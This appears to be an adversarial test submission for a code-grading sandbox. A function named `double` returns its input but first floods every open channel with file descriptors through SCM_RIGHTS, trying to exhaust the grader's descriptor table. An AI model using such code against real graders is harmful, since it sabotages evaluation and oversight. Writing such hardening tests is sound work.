"""Sends descriptors of its own, dozens of them, over every channel that is open, to fill the grader's table."""
# bites: death
# control: no the grader there has no channel
# ends: crashed error timeout wrong_answer
import array
import os
import socket


def double(x):
    rights = array.array("i", [os.open("/dev/zero", os.O_RDONLY)] * 200)
    for number in range(64):
        try:
            channel = socket.socket(fileno=os.dup(number))
            for _ in range(10):
                channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            pass
    return x
